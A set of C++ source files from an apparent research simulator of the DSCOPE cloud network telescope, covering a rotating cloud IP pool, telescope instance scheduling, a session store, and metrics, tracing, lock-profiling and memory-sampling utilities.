IpPool::IpPool(std::vector<net::Prefix> prefixes, std::uint64_t virtual_size)
    : prefixes_(std::move(prefixes)) {
  if (prefixes_.empty()) throw std::invalid_argument("IpPool: no prefixes");
  cumulative_.reserve(prefixes_.size());
  for (const auto& prefix : prefixes_) {
    capacity_ += prefix.size();
    cumulative_.push_back(capacity_);
  }
  virtual_size_ = std::min(virtual_size, capacity_);
  if (virtual_size_ == 0) throw std::invalid_argument("IpPool: empty pool");
}

IpPool IpPool::aws_like(std::uint64_t virtual_size) {
  // Representative provider blocks (us-east-ish /14s and /15s plus a
  // couple of EU/APAC blocks); ~4.3 M addresses of capacity.
  std::vector<net::Prefix> prefixes = {
      *net::Prefix::parse("3.208.0.0/13"),
      *net::Prefix::parse("18.204.0.0/14"),
      *net::Prefix::parse("34.192.0.0/14"),
      *net::Prefix::parse("52.20.0.0/14"),
      *net::Prefix::parse("54.144.0.0/14"),
      *net::Prefix::parse("13.36.0.0/14"),
      *net::Prefix::parse("35.152.0.0/14"),
  };
  return IpPool(std::move(prefixes), virtual_size);
}

net::IPv4 IpPool::address_at(std::uint64_t index) const {
  if (index >= virtual_size_) throw std::out_of_range("IpPool::address_at");
  // Spread the virtual pool uniformly across the full prefix capacity so
  // reused addresses are not clustered in the first prefix.
  const std::uint64_t spread = capacity_ / virtual_size_;
  const std::uint64_t offset = (index * spread) % capacity_;
  const auto it = std::upper_bound(cumulative_.begin(), cumulative_.end(), offset);
  const auto prefix_idx = static_cast<std::size_t>(it - cumulative_.begin());
  const std::uint64_t base = prefix_idx == 0 ? 0 : cumulative_[prefix_idx - 1];
  const auto& prefix = prefixes_[prefix_idx];
  return net::IPv4(prefix.base().value() + static_cast<std::uint32_t>(offset - base));
}

bool IpPool::contains(net::IPv4 addr) const {
  for (const auto& prefix : prefixes_) {
    if (prefix.contains(addr)) return true;
  }
  return false;
}

std::optional<std::uint64_t> IpPool::offset_of(net::IPv4 addr) const {
  std::uint64_t base = 0;
  for (const auto& prefix : prefixes_) {
    if (prefix.contains(addr)) {
      return base + (addr.value() - prefix.base().value());
    }
    base += prefix.size();
  }
  return std::nullopt;
}

}  // namespace cvewb::telescope
