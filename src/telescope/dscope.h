// The DSCOPE interactive telescope simulator.
//
// Reproduces the collection geometry of the real deployment: `lanes`
// concurrent instances churning every `lifetime` across a rotating cloud
// IP pool.  The schedule is a pure function of (lane, slot, seed), so the
// full two-year deployment (tens of millions of instance-slots) is never
// materialized; arbitrary instants can be queried directly.
//
// Two collection modes mirror how we generate traffic:
//  * sample mode -- scanners that *do* reach the telescope are assigned a
//    concrete receiving instance via `sample_active(t)`; this is how the
//    calibrated study traffic is placed (Appendix-E event counts are
//    counts of *captured* events, so capture is certain by construction);
//  * physical mode -- a scanner probes an arbitrary pool address and
//    `capture(session)` decides whether a telescope instance happened to
//    hold that address at that instant (used to validate the capture
//    fraction ≈ lanes / pool size).
#pragma once

#include <optional>
#include <vector>

#include "net/tcp_session.h"
#include "telescope/instance.h"
#include "telescope/ip_pool.h"
#include "util/rng.h"

namespace cvewb::telescope {

struct DscopeConfig {
  int lanes = 300;
  util::Duration lifetime = util::Duration::minutes(10);
  std::uint64_t seed = 0xd5c09e;
  util::TimePoint begin;
  util::TimePoint end;
};

class Dscope {
 public:
  Dscope(DscopeConfig config, IpPool pool);

  const DscopeConfig& config() const { return config_; }
  const IpPool& pool() const { return pool_; }

  std::int64_t slot_of(util::TimePoint t) const;

  /// The instance occupying `lane` during the slot containing `t`.
  Instance instance_at(int lane, util::TimePoint t) const;

  /// A uniformly random active instance at time `t`.
  Instance sample_active(util::TimePoint t, util::Rng& rng) const;

  /// The active instance holding `addr` at `t`, if any (physical mode).
  std::optional<Instance> holder_of(net::IPv4 addr, util::TimePoint t) const;

  /// Number of instance-slots over the whole deployment window.
  std::int64_t total_instance_slots() const;

 private:
  std::uint64_t pool_index(int lane, std::int64_t slot) const;

  DscopeConfig config_;
  IpPool pool_;
};

/// Append-only capture store with the §4 representativity counters.
/// Robust to degraded input: exact duplicate records can be removed and
/// the chronological sort is fully deterministic even when ids collide
/// (e.g. the same record delivered twice by a faulty capture).
class SessionStore {
 public:
  void add(net::TcpSession session);

  const std::vector<net::TcpSession>& sessions() const { return sessions_; }
  std::size_t size() const { return sessions_.size(); }

  /// Sorts sessions chronologically.  Ties are broken by the full record
  /// identity (source, destination, ports, payload, id) so the order is
  /// deterministic regardless of insertion order or duplicated ids.
  void sort_by_time();

  /// Removes exact duplicates by (time, 5-tuple, payload), keeping the
  /// first occurrence in store order (stable).  Returns how many records
  /// were removed.
  std::size_t dedup();

  std::size_t unique_sources() const;
  std::size_t unique_destinations() const;

 private:
  std::vector<net::TcpSession> sessions_;
};

}  // namespace cvewb::telescope
