// Cloud IPv4 address pool.
//
// DSCOPE leans on the pseudorandom nature of cloud IPv4 allocation: each
// new instance receives an address drawn from the provider's pool, and
// addresses are reused across tenants over time (which is why telescope
// IPs inherit traffic aimed at prior holders).  The pool maps a virtual
// address index onto a set of CIDR prefixes; allocation is a deterministic
// hash of (lane, slot, seed) so the 2-year schedule never needs to be
// materialized.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "net/ipv4.h"

namespace cvewb::telescope {

class IpPool {
 public:
  /// `prefixes` must be non-empty; `virtual_size` bounds the number of
  /// distinct addresses handed out (the "pool the provider rotates
  /// through"), clamped to the total prefix capacity.
  IpPool(std::vector<net::Prefix> prefixes, std::uint64_t virtual_size);

  /// Default pool: a realistic slice of cloud provider space, 5 M
  /// rotating addresses (the paper's unique-IP count).
  static IpPool aws_like(std::uint64_t virtual_size = 5'000'000);

  /// Address for a virtual index in [0, size()).
  net::IPv4 address_at(std::uint64_t index) const;

  /// True if `addr` belongs to one of the pool's prefixes.
  bool contains(net::IPv4 addr) const;

  /// Position of `addr` within the concatenated prefix space
  /// [0, prefix_capacity()); nullopt when outside the pool.  This is the
  /// coordinate in which allocation is uniform (raw IPv4 space has dead
  /// gaps between provider blocks).
  std::optional<std::uint64_t> offset_of(net::IPv4 addr) const;

  std::uint64_t size() const { return virtual_size_; }
  std::uint64_t prefix_capacity() const { return capacity_; }
  const std::vector<net::Prefix>& prefixes() const { return prefixes_; }

 private:
  std::vector<net::Prefix> prefixes_;
  std::vector<std::uint64_t> cumulative_;  // cumulative prefix sizes
  std::uint64_t capacity_ = 0;
  std::uint64_t virtual_size_ = 0;
};

}  // namespace cvewb::telescope
