#include "obs/metrics.h"

#include <bit>
#include <stdexcept>

namespace cvewb::obs {

namespace {

std::atomic<std::uint64_t> g_next_registry_id{1};

/// CAS max loop over a relaxed atomic.
template <typename T>
void atomic_max(std::atomic<T>& cell, T value) {
  T current = cell.load(std::memory_order_relaxed);
  while (current < value &&
         !cell.compare_exchange_weak(current, value, std::memory_order_relaxed)) {
  }
}

template <typename T>
void atomic_min(std::atomic<T>& cell, T value) {
  T current = cell.load(std::memory_order_relaxed);
  while (current > value &&
         !cell.compare_exchange_weak(current, value, std::memory_order_relaxed)) {
  }
}

}  // namespace

/// One thread's private accumulation: plain relaxed atomics so an export
/// racing a writer reads torn-free values without synchronizing the
/// writer's fast path.
struct MetricsRegistry::Slab {
  std::array<std::atomic<std::uint64_t>, kMaxCounters> counters{};
  struct HistCell {
    std::atomic<std::uint64_t> count{0};
    std::atomic<std::uint64_t> sum{0};
    std::atomic<std::uint64_t> min{std::numeric_limits<std::uint64_t>::max()};
    std::atomic<std::uint64_t> max{0};
    std::array<std::atomic<std::uint64_t>, kHistogramBuckets> buckets{};
  };
  std::array<HistCell, kMaxHistograms> histograms{};
};

MetricsRegistry::MetricsRegistry()
    : id_(g_next_registry_id.fetch_add(1, std::memory_order_relaxed)),
      gauges_(std::make_unique<std::array<GaugeCell, kMaxGauges>>()) {}

MetricsRegistry::~MetricsRegistry() = default;

std::size_t MetricsRegistry::bucket_of(std::uint64_t value) {
  if (value == 0) return 0;
  const std::size_t width = static_cast<std::size_t>(std::bit_width(value));
  return width < kHistogramBuckets ? width : kHistogramBuckets - 1;
}

std::size_t MetricsRegistry::register_name(
    std::vector<std::string>& names, std::map<std::string, std::size_t, std::less<>>& index,
    std::string_view name, std::size_t capacity, const char* kind) {
  std::lock_guard<std::mutex> lock(mutex_);
  const auto it = index.find(name);
  if (it != index.end()) return it->second;
  if (names.size() >= capacity) {
    throw std::length_error(std::string("MetricsRegistry: too many ") + kind);
  }
  const std::size_t id = names.size();
  names.emplace_back(name);
  index.emplace(std::string(name), id);
  return id;
}

CounterId MetricsRegistry::counter(std::string_view name) {
  return CounterId{register_name(counter_names_, counter_index_, name, kMaxCounters, "counters")};
}

GaugeId MetricsRegistry::gauge(std::string_view name) {
  return GaugeId{register_name(gauge_names_, gauge_index_, name, kMaxGauges, "gauges")};
}

HistogramId MetricsRegistry::histogram(std::string_view name) {
  return HistogramId{
      register_name(histogram_names_, histogram_index_, name, kMaxHistograms, "histograms")};
}

MetricsRegistry::Slab* MetricsRegistry::slab() {
  struct CacheEntry {
    std::uint64_t registry_id;
    Slab* slab;
  };
  thread_local std::vector<CacheEntry> cache;
  for (const auto& entry : cache) {
    if (entry.registry_id == id_) return entry.slab;
  }
  auto owned = std::make_unique<Slab>();
  Slab* raw = owned.get();
  {
    std::lock_guard<std::mutex> lock(mutex_);
    slabs_.push_back(std::move(owned));
  }
  cache.push_back(CacheEntry{id_, raw});
  return raw;
}

void MetricsRegistry::add(CounterId id, std::uint64_t delta) {
  slab()->counters[id.index].fetch_add(delta, std::memory_order_relaxed);
}

void MetricsRegistry::gauge_set(GaugeId id, std::int64_t value) {
  GaugeCell& cell = (*gauges_)[id.index];
  cell.value.store(value, std::memory_order_relaxed);
  atomic_max(cell.max, value);
}

void MetricsRegistry::gauge_add(GaugeId id, std::int64_t delta) {
  GaugeCell& cell = (*gauges_)[id.index];
  const std::int64_t now = cell.value.fetch_add(delta, std::memory_order_relaxed) + delta;
  atomic_max(cell.max, now);
}

void MetricsRegistry::observe(HistogramId id, std::uint64_t value) {
  Slab::HistCell& cell = slab()->histograms[id.index];
  cell.count.fetch_add(1, std::memory_order_relaxed);
  cell.sum.fetch_add(value, std::memory_order_relaxed);
  atomic_min(cell.min, value);
  atomic_max(cell.max, value);
  cell.buckets[bucket_of(value)].fetch_add(1, std::memory_order_relaxed);
}

MetricsSnapshot MetricsRegistry::snapshot() const {
  MetricsSnapshot out;
  std::lock_guard<std::mutex> lock(mutex_);
  for (std::size_t i = 0; i < counter_names_.size(); ++i) {
    std::uint64_t total = 0;
    for (const auto& slab : slabs_) total += slab->counters[i].load(std::memory_order_relaxed);
    out.counters.emplace(counter_names_[i], total);
  }
  for (std::size_t i = 0; i < gauge_names_.size(); ++i) {
    const GaugeCell& cell = (*gauges_)[i];
    GaugeSnapshot gauge;
    gauge.value = cell.value.load(std::memory_order_relaxed);
    const std::int64_t raw_max = cell.max.load(std::memory_order_relaxed);
    gauge.max = raw_max == std::numeric_limits<std::int64_t>::min() ? gauge.value : raw_max;
    out.gauges.emplace(gauge_names_[i], gauge);
  }
  for (std::size_t i = 0; i < histogram_names_.size(); ++i) {
    HistogramSnapshot hist;
    hist.buckets.assign(kHistogramBuckets, 0);
    std::uint64_t min = std::numeric_limits<std::uint64_t>::max();
    for (const auto& slab : slabs_) {
      const Slab::HistCell& cell = slab->histograms[i];
      hist.count += cell.count.load(std::memory_order_relaxed);
      hist.sum += cell.sum.load(std::memory_order_relaxed);
      min = std::min(min, cell.min.load(std::memory_order_relaxed));
      hist.max = std::max(hist.max, cell.max.load(std::memory_order_relaxed));
      for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
        hist.buckets[b] += cell.buckets[b].load(std::memory_order_relaxed);
      }
    }
    hist.min = hist.count == 0 ? 0 : min;
    out.histograms.emplace(histogram_names_[i], hist);
  }
  return out;
}

util::Json MetricsRegistry::to_json() const {
  const MetricsSnapshot snap = snapshot();
  util::Json counters{util::JsonObject{}};
  for (const auto& [name, value] : snap.counters) {
    counters.set(name, static_cast<std::int64_t>(value));
  }
  util::Json gauges{util::JsonObject{}};
  for (const auto& [name, gauge] : snap.gauges) {
    util::Json row;
    row.set("value", gauge.value);
    row.set("max", gauge.max);
    gauges.set(name, std::move(row));
  }
  util::Json histograms{util::JsonObject{}};
  for (const auto& [name, hist] : snap.histograms) {
    util::Json row;
    row.set("count", static_cast<std::int64_t>(hist.count));
    row.set("sum", static_cast<std::int64_t>(hist.sum));
    row.set("min", static_cast<std::int64_t>(hist.min));
    row.set("max", static_cast<std::int64_t>(hist.max));
    row.set("mean", hist.mean());
    util::Json buckets{util::JsonArray{}};
    // Trailing empty buckets are noise; emit up to the last non-zero one.
    std::size_t last = 0;
    for (std::size_t b = 0; b < hist.buckets.size(); ++b) {
      if (hist.buckets[b] != 0) last = b + 1;
    }
    for (std::size_t b = 0; b < last; ++b) {
      buckets.push_back(static_cast<std::int64_t>(hist.buckets[b]));
    }
    row.set("log2_buckets", std::move(buckets));
    histograms.set(name, std::move(row));
  }
  util::Json doc;
  doc.set("counters", std::move(counters));
  doc.set("gauges", std::move(gauges));
  doc.set("histograms", std::move(histograms));
  return doc;
}

}  // namespace cvewb::obs
