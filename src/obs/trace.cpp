#include "obs/trace.h"

#include <atomic>
#include <utility>

namespace cvewb::obs {

namespace {

/// Process-unique tracer ids key the thread-local registration cache, so a
/// tracer destroyed and another allocated at the same address can never be
/// confused with it.
std::atomic<std::uint64_t> g_next_tracer_id{1};

}  // namespace

struct Tracer::ThreadLog {
  std::uint32_t tid = 0;
  std::mutex mutex;  // owner thread appends; exports read concurrently
  std::vector<TraceEvent> events;
};

Tracer::Tracer()
    : id_(g_next_tracer_id.fetch_add(1, std::memory_order_relaxed)),
      epoch_(std::chrono::steady_clock::now()) {}

Tracer::~Tracer() = default;

std::uint64_t Tracer::now_us() const {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() -
                                                            epoch_)
          .count());
}

Tracer::ThreadLog* Tracer::thread_log() {
  struct CacheEntry {
    std::uint64_t tracer_id;
    ThreadLog* log;
  };
  thread_local std::vector<CacheEntry> cache;
  for (const auto& entry : cache) {
    if (entry.tracer_id == id_) return entry.log;
  }
  auto log = std::make_unique<ThreadLog>();
  ThreadLog* raw = log.get();
  {
    std::lock_guard<std::mutex> lock(mutex_);
    raw->tid = static_cast<std::uint32_t>(logs_.size());
    logs_.push_back(std::move(log));
  }
  cache.push_back(CacheEntry{id_, raw});
  return raw;
}

void Tracer::record(std::string name, std::uint64_t ts_us, std::uint64_t dur_us) {
  ThreadLog* log = thread_log();
  std::lock_guard<std::mutex> lock(log->mutex);
  log->events.push_back(TraceEvent{std::move(name), ts_us, dur_us, log->tid});
}

std::vector<TraceEvent> Tracer::events() const {
  std::vector<TraceEvent> out;
  std::lock_guard<std::mutex> lock(mutex_);
  for (const auto& log : logs_) {
    std::lock_guard<std::mutex> log_lock(log->mutex);
    out.insert(out.end(), log->events.begin(), log->events.end());
  }
  return out;
}

std::size_t Tracer::event_count() const {
  std::size_t n = 0;
  std::lock_guard<std::mutex> lock(mutex_);
  for (const auto& log : logs_) {
    std::lock_guard<std::mutex> log_lock(log->mutex);
    n += log->events.size();
  }
  return n;
}

util::Json Tracer::to_json() const {
  util::Json events_json{util::JsonArray{}};
  for (const TraceEvent& event : events()) {
    util::Json row;
    row.set("name", event.name);
    row.set("ph", "X");
    row.set("ts", static_cast<std::int64_t>(event.ts_us));
    row.set("dur", static_cast<std::int64_t>(event.dur_us));
    row.set("pid", 1);
    row.set("tid", static_cast<std::int64_t>(event.tid));
    events_json.push_back(std::move(row));
  }
  util::Json doc;
  doc.set("traceEvents", std::move(events_json));
  doc.set("displayTimeUnit", "ms");
  return doc;
}

}  // namespace cvewb::obs
