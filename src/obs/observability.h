// The bundle a pipeline run carries when observability is on.
//
// `StudyConfig.observability` (and the per-stage configs it fans out to)
// is a nullable pointer to one of these; a null pointer is "observability
// off" and every helper below degrades to a no-op, so instrumented code
// reads naturally and costs nothing unobserved.  The contract, proven by
// tests/obs/obs_determinism_test.cpp: attaching an Observability changes
// *only* wall-clock, never a byte of StudyResult.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "obs/lock_profile.h"
#include "obs/memory.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace cvewb::util {
class ThreadPool;
}

namespace cvewb::obs {

struct Observability {
  Tracer tracer;
  MetricsRegistry metrics;
  /// Lock-contention profiler over the run's named mutexes (see
  /// lock_profile.h).  Mutexes are attached by run_study / the daemon when
  /// this bundle is wired in; attached mutexes must be detached (or
  /// destroyed) before the bundle goes away.
  LockContentionProfiler locks{&metrics, &tracer};

  ~Observability() { locks.detach_all(); }

  /// Metrics + a closing memory sample (the trace is exported separately
  /// via `tracer.to_json()` -- it is a different document format).
  util::Json to_json() const;
};

inline Tracer* tracer_of(Observability* obs) { return obs == nullptr ? nullptr : &obs->tracer; }

/// Null-safe metric shorthands for instrumentation sites.  Name lookup
/// costs one mutex + map probe; use at shard/chunk granularity, not in
/// per-session loops.
inline void count(Observability* obs, std::string_view name, std::uint64_t delta = 1) {
  if (obs != nullptr) obs->metrics.add(obs->metrics.counter(name), delta);
}
inline void observe(Observability* obs, std::string_view name, std::uint64_t value) {
  if (obs != nullptr) obs->metrics.observe(obs->metrics.histogram(name), value);
}
inline void gauge_set(Observability* obs, std::string_view name, std::int64_t value) {
  if (obs != nullptr) obs->metrics.gauge_set(obs->metrics.gauge(name), value);
}
inline void gauge_add(Observability* obs, std::string_view name, std::int64_t delta) {
  if (obs != nullptr) obs->metrics.gauge_add(obs->metrics.gauge(name), delta);
}

/// Phase instrumentation for run_study: one trace span named
/// "phase/<name>", a "phase_us/<name>" wall-clock counter, and RSS
/// gauges sampled at the phase boundary (their `max` is the pipeline's
/// observed memory high-water).
class PhaseSpan {
 public:
  PhaseSpan(Observability* obs, std::string name);
  ~PhaseSpan();
  PhaseSpan(const PhaseSpan&) = delete;
  PhaseSpan& operator=(const PhaseSpan&) = delete;

 private:
  Observability* obs_;
  std::string name_;
  std::uint64_t start_us_ = 0;
};

/// Export a pool's execution stats (queue depth, task latency, per-worker
/// idle time) into the registry under "pool/...".  No-op on null obs.
void export_pool_stats(Observability* obs, const util::ThreadPool& pool);

}  // namespace cvewb::obs
