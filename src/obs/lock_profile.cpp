#include "obs/lock_profile.h"

#include "obs/observability.h"

namespace cvewb::obs {

void LockContentionProfiler::attach(util::TimedMutex& mutex) {
  const char* name = mutex.name();
  auto it = by_name_.find(name);
  if (it == by_name_.end()) {
    const std::string prefix = std::string("lock/") + name;
    MutexIds ids;
    ids.acquire_total = metrics_->counter(prefix + "/acquire_total");
    ids.contended_total = metrics_->counter(prefix + "/contended_total");
    ids.held_us = metrics_->histogram(prefix + "/held_us");
    ids.blocked_us = metrics_->histogram(prefix + "/blocked_us");
    it = by_name_.emplace(name, ids).first;
  }
  by_pointer_[name] = &it->second;
  attached_.push_back(&mutex);
  mutex.attach(this);
}

void LockContentionProfiler::detach_all() {
  for (util::TimedMutex* mutex : attached_) mutex->detach();
  attached_.clear();
}

const LockContentionProfiler::MutexIds* LockContentionProfiler::ids_for(const char* name) const {
  const auto fast = by_pointer_.find(name);
  if (fast != by_pointer_.end()) return fast->second;
  const auto slow = by_name_.find(name);
  return slow == by_name_.end() ? nullptr : &slow->second;
}

void LockContentionProfiler::on_acquire(const char* name, std::uint64_t blocked_us,
                                        bool contended) {
  const MutexIds* ids = ids_for(name);
  if (ids == nullptr) return;  // never attached under this name
  metrics_->add(ids->acquire_total);
  metrics_->observe(ids->blocked_us, blocked_us);
  if (contended) {
    metrics_->add(ids->contended_total);
    if (tracer_ != nullptr && blocked_us >= kTraceBlockedThresholdUs) {
      const std::uint64_t now = tracer_->now_us();
      tracer_->record(std::string("lock/") + name + "/blocked",
                      now > blocked_us ? now - blocked_us : 0, blocked_us);
    }
  }
}

void LockContentionProfiler::on_release(const char* name, std::uint64_t held_us) {
  const MutexIds* ids = ids_for(name);
  if (ids == nullptr) return;
  metrics_->observe(ids->held_us, held_us);
}

void attach_lock_profiler(Observability* obs, util::TimedMutex& mutex) {
  if (obs == nullptr) return;
  obs->locks.attach(mutex);
}

}  // namespace cvewb::obs
