// Lock-contention profiler: util::TimedMutex timings -> metrics + trace.
//
// Attached to the pipeline's named mutexes (thread-pool queue, stage-DAG
// state, job-scheduler admission) when observability is on, it exports
// per-mutex acquisition counts and held/blocked duration histograms
// through the existing MetricsRegistry:
//
//   lock/<name>/acquire_total    counter: every acquisition
//   lock/<name>/contended_total  counter: acquisitions that had to block
//   lock/<name>/held_us          histogram: hold duration per release
//   lock/<name>/blocked_us       histogram: wait duration per contended
//                                acquisition (uncontended -> bucket 0)
//
// Long blocks additionally emit a Chrome-trace span ("lock/<name>/
// blocked") on the blocking thread, so contention shows up in the same
// Perfetto timeline as the stage spans around it.  Metric ids are
// registered up front (at attach), so the hot-path callbacks touch only
// the registry's lock-free per-thread slabs -- safe to fire from every
// worker at once, and contention numbers survive the registry's exact
// snapshot merge like any other metric.
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/timed_mutex.h"

namespace cvewb::obs {

struct Observability;

class LockContentionProfiler : public util::LockProfiler {
 public:
  /// Blocked durations at or above this emit a trace span (when a tracer
  /// is wired); shorter waits only land in the histograms.
  static constexpr std::uint64_t kTraceBlockedThresholdUs = 100;

  LockContentionProfiler(MetricsRegistry* metrics, Tracer* tracer)
      : metrics_(metrics), tracer_(tracer) {}

  /// Register the four per-mutex metric ids and attach to the mutex.  Not
  /// thread-safe against concurrent attach/detach (run setup only).
  void attach(util::TimedMutex& mutex);
  /// Detach every mutex this profiler was attached to (run teardown).
  void detach_all();

  void on_acquire(const char* name, std::uint64_t blocked_us, bool contended) override;
  void on_release(const char* name, std::uint64_t held_us) override;

 private:
  struct MutexIds {
    CounterId acquire_total;
    CounterId contended_total;
    HistogramId held_us;
    HistogramId blocked_us;
  };

  const MutexIds* ids_for(const char* name) const;

  MetricsRegistry* metrics_;
  Tracer* tracer_;
  // Keyed by mutex name pointer identity first (the common case: each
  // call site passes the same string literal), falling back to string
  // compare so two mutexes sharing a name alias the same series.
  std::map<std::string, MutexIds> by_name_;
  std::map<const char*, const MutexIds*> by_pointer_;
  std::vector<util::TimedMutex*> attached_;
};

/// Attach `mutex` to the bundle's lock profiler; no-op when obs is null.
void attach_lock_profiler(Observability* obs, util::TimedMutex& mutex);

}  // namespace cvewb::obs
