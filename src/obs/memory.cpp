#include "obs/memory.h"

#if defined(__unix__) || defined(__APPLE__)
#include <sys/resource.h>
#include <unistd.h>
#endif

#if defined(__GLIBC__)
#include <malloc.h>
#endif

#include <cstdio>

namespace cvewb::obs {

MemorySample sample_memory() {
  MemorySample sample;
#if defined(__unix__) || defined(__APPLE__)
  rusage usage{};
  if (getrusage(RUSAGE_SELF, &usage) == 0) {
#if defined(__APPLE__)
    sample.peak_rss_bytes = static_cast<std::uint64_t>(usage.ru_maxrss);  // bytes on macOS
#else
    sample.peak_rss_bytes = static_cast<std::uint64_t>(usage.ru_maxrss) * 1024;  // KiB on Linux
#endif
    sample.supported = true;
  }
#endif
#if defined(__linux__)
  // /proc/self/statm: size resident shared text lib data dt (pages).
  if (std::FILE* statm = std::fopen("/proc/self/statm", "r")) {
    unsigned long long size_pages = 0;
    unsigned long long resident_pages = 0;
    if (std::fscanf(statm, "%llu %llu", &size_pages, &resident_pages) == 2) {
      const long page = sysconf(_SC_PAGESIZE);
      sample.current_rss_bytes =
          static_cast<std::uint64_t>(resident_pages) * static_cast<std::uint64_t>(page);
      sample.supported = true;
    }
    std::fclose(statm);
  }
#endif
#if defined(__GLIBC__) && (__GLIBC__ > 2 || (__GLIBC__ == 2 && __GLIBC_MINOR__ >= 33))
  const struct mallinfo2 info = mallinfo2();
  sample.heap_in_use_bytes = static_cast<std::uint64_t>(info.uordblks);
#endif
  return sample;
}

util::Json MemorySample::to_json() const {
  util::Json doc;
  doc.set("supported", supported);
  doc.set("current_rss_bytes", static_cast<std::int64_t>(current_rss_bytes));
  doc.set("peak_rss_bytes", static_cast<std::int64_t>(peak_rss_bytes));
  doc.set("heap_in_use_bytes", static_cast<std::int64_t>(heap_in_use_bytes));
  return doc;
}

}  // namespace cvewb::obs
