// Thread-safe counter / gauge / histogram registry.
//
// Counters and histograms accumulate into per-thread slabs of relaxed
// atomics -- a writing thread touches only its own cache lines, so N
// threads hammering the same counter never contend -- and are merged
// exactly on `snapshot()`.  Gauges represent instantaneous global state
// (queue depth, RSS) and are single atomic cells with a CAS-maintained
// high-water mark.
//
// Registration (name -> id) takes the registry mutex; hot paths should
// register once and reuse the id, but name-keyed convenience lookups are
// fine at shard/chunk granularity.  Metrics are a strict side-channel:
// nothing in here feeds back into pipeline results.
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <limits>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "util/json.h"

namespace cvewb::obs {

struct CounterId {
  std::size_t index = std::numeric_limits<std::size_t>::max();
};
struct GaugeId {
  std::size_t index = std::numeric_limits<std::size_t>::max();
};
struct HistogramId {
  std::size_t index = std::numeric_limits<std::size_t>::max();
};

struct GaugeSnapshot {
  std::int64_t value = 0;  // last set value
  std::int64_t max = 0;    // high-water across every set/add
};

struct HistogramSnapshot {
  std::uint64_t count = 0;
  std::uint64_t sum = 0;
  std::uint64_t min = 0;  // 0 when count == 0
  std::uint64_t max = 0;
  /// Log2 buckets: bucket 0 counts value 0, bucket b >= 1 counts values
  /// in [2^(b-1), 2^b); the last bucket also absorbs everything larger.
  std::vector<std::uint64_t> buckets;

  double mean() const { return count == 0 ? 0.0 : static_cast<double>(sum) / count; }
};

struct MetricsSnapshot {
  std::map<std::string, std::uint64_t> counters;
  std::map<std::string, GaugeSnapshot> gauges;
  std::map<std::string, HistogramSnapshot> histograms;
};

class MetricsRegistry {
 public:
  static constexpr std::size_t kMaxCounters = 256;
  static constexpr std::size_t kMaxGauges = 128;
  static constexpr std::size_t kMaxHistograms = 64;
  static constexpr std::size_t kHistogramBuckets = 44;  // value 0 + log2 up to 2^43

  MetricsRegistry();
  ~MetricsRegistry();
  MetricsRegistry(const MetricsRegistry&) = delete;
  MetricsRegistry& operator=(const MetricsRegistry&) = delete;

  /// Find-or-register; a second call with the same name returns the same
  /// id.  Throws std::length_error past the per-kind capacity.
  CounterId counter(std::string_view name);
  GaugeId gauge(std::string_view name);
  HistogramId histogram(std::string_view name);

  void add(CounterId id, std::uint64_t delta = 1);
  void gauge_set(GaugeId id, std::int64_t value);
  void gauge_add(GaugeId id, std::int64_t delta);
  void observe(HistogramId id, std::uint64_t value);

  /// Merge every thread's accumulation.  Exact when no writer is
  /// concurrently active (the pipeline snapshots after stages complete).
  MetricsSnapshot snapshot() const;

  /// {"counters": {...}, "gauges": {...}, "histograms": {...}}.
  util::Json to_json() const;

  /// Bucket index a value lands in (exposed for tests).
  static std::size_t bucket_of(std::uint64_t value);

 private:
  struct Slab;
  Slab* slab();
  std::size_t register_name(std::vector<std::string>& names,
                            std::map<std::string, std::size_t, std::less<>>& index,
                            std::string_view name, std::size_t capacity, const char* kind);

  struct GaugeCell {
    std::atomic<std::int64_t> value{0};
    std::atomic<std::int64_t> max{std::numeric_limits<std::int64_t>::min()};
  };

  const std::uint64_t id_;  // keys the thread-local slab cache
  mutable std::mutex mutex_;
  std::vector<std::string> counter_names_;
  std::vector<std::string> gauge_names_;
  std::vector<std::string> histogram_names_;
  std::map<std::string, std::size_t, std::less<>> counter_index_;
  std::map<std::string, std::size_t, std::less<>> gauge_index_;
  std::map<std::string, std::size_t, std::less<>> histogram_index_;
  std::unique_ptr<std::array<GaugeCell, kMaxGauges>> gauges_;
  std::vector<std::unique_ptr<Slab>> slabs_;
};

}  // namespace cvewb::obs
