#include "obs/observability.h"

#include "util/thread_pool.h"

namespace cvewb::obs {

util::Json Observability::to_json() const {
  util::Json doc = metrics.to_json();
  doc.set("memory", sample_memory().to_json());
  return doc;
}

PhaseSpan::PhaseSpan(Observability* obs, std::string name) : obs_(obs), name_(std::move(name)) {
  if (obs_ != nullptr) start_us_ = obs_->tracer.now_us();
}

PhaseSpan::~PhaseSpan() {
  if (obs_ == nullptr) return;
  const std::uint64_t dur_us = obs_->tracer.now_us() - start_us_;
  obs_->tracer.record("phase/" + name_, start_us_, dur_us);
  obs_->metrics.add(obs_->metrics.counter("phase_us/" + name_), dur_us);
  const MemorySample memory = sample_memory();
  if (memory.supported) {
    obs_->metrics.gauge_set(obs_->metrics.gauge("mem/current_rss_bytes"),
                            static_cast<std::int64_t>(memory.current_rss_bytes));
    obs_->metrics.gauge_set(obs_->metrics.gauge("mem/peak_rss_bytes"),
                            static_cast<std::int64_t>(memory.peak_rss_bytes));
    obs_->metrics.gauge_set(obs_->metrics.gauge("mem/heap_in_use_bytes"),
                            static_cast<std::int64_t>(memory.heap_in_use_bytes));
  }
}

void export_pool_stats(Observability* obs, const util::ThreadPool& pool) {
  if (obs == nullptr) return;
  const util::ThreadPoolStats stats = pool.stats();
  auto& metrics = obs->metrics;
  metrics.add(metrics.counter("pool/tasks_submitted"), stats.submitted);
  metrics.add(metrics.counter("pool/tasks_completed"), stats.completed);
  metrics.add(metrics.counter("pool/task_run_us"), stats.task_run_us);
  metrics.add(metrics.counter("pool/task_wait_us"), stats.task_wait_us);
  metrics.add(metrics.counter("pool/idle_us_total"), stats.idle_us_total());
  metrics.gauge_set(metrics.gauge("pool/workers"), static_cast<std::int64_t>(pool.size()));
  metrics.gauge_set(metrics.gauge("pool/queue_depth"),
                    static_cast<std::int64_t>(stats.queue_depth));
